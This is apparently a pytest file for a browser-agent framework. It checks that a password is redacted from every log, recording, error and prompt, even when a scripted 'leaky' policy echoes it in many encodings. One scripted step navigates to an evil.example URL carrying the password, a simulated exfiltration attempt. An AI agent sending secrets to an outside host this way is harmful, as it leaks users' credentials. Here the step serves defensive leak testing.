"""A whole run on a page that echoes a password wherever it can: its value reaches the page, and nothing else."""

import asyncio
import base64
import html
import http.server
import json
import re
import sys
import threading
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, unquote_plus, urlsplit

import pytest
from rich.console import Console

from foveate.actions.errors import NavigationFailed, ParseError
from foveate.actions.guard import Guard, Limits, Secret, Verdict
from foveate.actions.schema import (
    Action,
    CallUser,
    Click,
    Dialog,
    Key,
    Navigate,
    Press,
    Respond,
    Terminate,
    TypeText,
    Wait,
)
from foveate.agent import Agent, Result
from foveate.agent.ending import result_object
from foveate.agent.live import LiveView
from foveate.agent.record import to_json
from foveate.agent.trajectory import Listener
from foveate.envs.base import Observation, Resource
from foveate.envs.browser import BrowserEnv
from foveate.policies.base import Decision, Look, Policy, Turn

pytestmark = pytest.mark.browser

VALUE = "Zä  ki/w+7 b"
BONES = "zakiw7b"
"""What is left of the value in any form, once all is decoded, without marks, blanks and signs."""

SIGN_IN = """<style>body{margin:0}input{position:fixed;left:0;top:0;width:300px;height:40px}</style>
<title>Sign in</title><form action=/in><input name=word type=password autocomplete=off></form>
<script>window.foveateTask = {instruction: 'Sign in with %s', done: () => true}</script>"""
ECHO = """<style>body{margin:0}a,button{position:fixed;left:0;width:300px;height:40px}button{top:80px}</style>
<title>Hello %(text)s</title><a href=/file?name=%(url)s>get %(text)s</a>
<button onclick="alert('You are ' + word)" title="%(text)s"></button><script>const word = %(json)s;
history.replaceState(0, '', '/in?word=' + encodeURIComponent(encodeURIComponent(word)) + '#' + btoa('me:%(ascii)s'));
console.error(word)</script>"""


class Served(http.server.BaseHTTPRequestHandler):
    """A sign-in page, and one that echoes what came."""

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        query = {name: values[0] for name, values in parse_qs(parts.query).items()}
        headers, body = {"Content-Type": "text/html; charset=utf-8"}, SIGN_IN % VALUE
        if parts.path == "/in":
            self.server.words.append(query["word"])  # type: ignore[attr-defined]
            word = query["word"]
            body = ECHO % {"text": html.escape(word), "url": quote(word), "json": json.dumps(word), "ascii": "x"}
        elif parts.path == "/file":
            name = quote(f"for {query['name']}.txt", safe="")
            headers, body = {"Content-Disposition": f"attachment; filename*=UTF-8''{name}"}, "content"
        data = f"<!doctype html><meta charset=utf-8>{body}".encode() if "Content-Type" in headers else body.encode()
        self.send_response(200)
        for header in (headers | {"Content-Length": str(len(data))}).items():
            self.send_header(*header)
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[Any]:
    serving = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Served)
    serving.daemon_threads = True
    serving.words = []  # type: ignore[attr-defined]
    threading.Thread(target=serving.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    yield serving
    serving.shutdown()
    serving.server_close()


def spilt(text: str) -> list[str]:
    """Find what is left of the value, by other means than the runtime's."""
    found = []
    for _ in range(4):
        marks = unicodedata.normalize("NFKD", text).lower()
        if BONES in "".join(char for char in marks if char.isascii() and char.isalnum()):
            found.append("the value")
        for offset in range(3):
            core = base64.b64encode(b"x" * offset + VALUE.encode()).decode().rstrip("=")[4:-2]
            found += ["base64"] if core in text else []
        text = html.unescape(unquote_plus(text.replace("+", "%2B") if "%" not in text else text))
        text = re.sub(r"\\u([0-9a-f]{4})", lambda match: chr(int(match[1], 16)), text)
    return found


SAID = (
    f"type {quote(VALUE)} and {quote(quote(VALUE, safe=''))}, {html.escape(VALUE)}, {json.dumps(VALUE)}, "
    f"{base64.b64encode(f'me:{VALUE}'.encode()).decode()}, {unicodedata.normalize('NFD', VALUE)}, {VALUE.upper()}"
)


class Leaky(Resource, Policy):
    """A model that tells the password in every text that it writes."""

    def __init__(self, *steps: Action | ParseError) -> None:
        self.steps = list(steps)
        self.shown: list[str] = []

    async def reset(self, task: str, *, seed: int | None = None, action_kinds: frozenset[str] | None = None) -> None:
        self.shown.append(task)

    async def act(self, observation: Observation, history: tuple[Turn, ...], look: Look | None = None) -> Decision:
        self.shown += repr(observation), repr(history)
        step = self.steps.pop(0)
        decision = Decision(thought=SAID, operation=SAID, raw=SAID, attempts=(SAID,))
        if isinstance(step, ParseError):
            step.decision = decision
            raise step
        return Decision((step,), SAID, SAID, SAID, attempts=(SAID,))


class Hearing(Listener):
    """Keeps what listeners are told."""

    def __init__(self) -> None:
        self.told: list[str] = []

    def started(self, task: str) -> None:
        self.told.append(task)

    def observed(self, observation: Observation) -> None:
        self.told.append(repr(observation))

    def turned(self, turn: Turn) -> None:
        self.told.append(repr(turn))

    def ended(self, result: Result) -> None:
        self.told.append(repr(result))


def texts_of(folder: Path) -> dict[str, str]:
    """Give each file's name and content, pictures' names only."""
    files = [path for path in folder.rglob("*") if path.is_file()]
    return {
        str(path.relative_to(folder)): "" if path.suffix == ".png" else path.read_text(errors="replace")
        for path in files
    }


async def test_a_password_that_everything_echoes_is_in_no_text_that_leaves_the_runtime(
    chromium: str, server: Any, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    frame, address = 320, f"http://127.0.0.1:{server.server_port}"
    limits = Limits(secrets={"pw": Secret(VALUE, ("127.0.0.1",))})
    env = BrowserEnv(f"{address}/", browser=chromium, viewport=(frame, 240), limits=limits)
    at = {top: Click.model_validate({"at": {"x": 40 / frame, "y": top / 240}}) for top in (20, 100)}
    policy = Leaky(
        at[20], TypeText(text="{{pw}}"), Press(keys=(Key.ENTER,)), at[20], Wait(duration_s=0.5), at[100],
        Dialog(accept=True), Navigate(url=f"http://evil.example/?q={quote(VALUE)}"), CallUser(question=SAID),
        TypeText(text="{{pw}}"), Respond(answer=SAID), ParseError(f"no action in {SAID[:9]!r}... ({len(SAID)})"),
    )  # fmt: skip
    asked: list[str] = []

    async def confirm(action: Action, verdict: Verdict, observation: Observation) -> bool:
        asked.append(repr((action, verdict, observation)))
        return True

    async def ask(question: str, observation: Observation) -> str | None:
        asked.append(question)
        return f"it is {VALUE}"

    hearing, view = Hearing(), LiveView(Console(file=sys.stderr, width=4000), max_steps=20)
    agent = Agent(
        env, policy, guard=Guard(env.limits, ask="always"), confirm=confirm, ask=ask, record=tmp_path / "run",
        listeners=(hearing, view),
    )  # fmt: skip
    result = await agent.run()
    data = result_object(status=result.status, reason=result.reason, seconds=1.0, record=None, answer=result.answer)
    print(to_json(data).decode())
    assert server.words == [VALUE]  # it was typed, and sent as it is
    assert (result.reason, result.steps) == ("no_action", 12)
    left = await asyncio.to_thread(texts_of, tmp_path / "run")
    assert {"episode.json", "steps.jsonl", "report.html", "downloads/for {{pw}}.txt"} <= left.keys()
    out, err = capfd.readouterr()
    told = {
        **{f"the name {name}": name for name in left}, **left, "standard output": out, "standard error": err,
        "the result": repr(result), "the policy": "\n".join(policy.shown), "people": "\n".join(asked),
        "listeners": "\n".join(hearing.told),
    }  # fmt: skip
    assert {name: spilt(text) for name, text in told.items() if spilt(text)} == {}
    for name in ("episode.json", "steps.jsonl", "report.html", "standard output", "standard error", "the policy"):
        assert "{{pw}}" in told[name], name
    for text in ("alert: You are {{pw}}", "get {{pw}}", "for {{pw}}.txt was downloaded", "word={{pw}}"):
        assert text in left["steps.jsonl"], text


async def test_an_error_that_ends_a_run_tells_no_value(chromium: str, server: Any, tmp_path: Path) -> None:
    address = f"http://127.0.0.1:1/?q={quote(VALUE)}"
    limits = Limits(secrets={"pw": Secret(VALUE, ("127.0.0.1",))})
    env = BrowserEnv(address, browser=chromium, viewport=(320, 240), limits=limits)
    hearing = Hearing()
    agent = Agent(env, Leaky(Terminate(status="success")), record=tmp_path / "run", listeners=(hearing,))
    with pytest.raises(NavigationFailed) as caught:
        await agent.run(f"Open {address}")
    assert "{{pw}}" in str(caught.value)
    left = await asyncio.to_thread(texts_of, tmp_path / "run")
    told = {**left, "the error": str(caught.value), "its cause": str(caught.value.__cause__),
            "its result": repr(caught.value.result), "listeners": "\n".join(hearing.told)}  # fmt: skip
    assert {name: spilt(text) for name, text in told.items() if spilt(text)} == {}
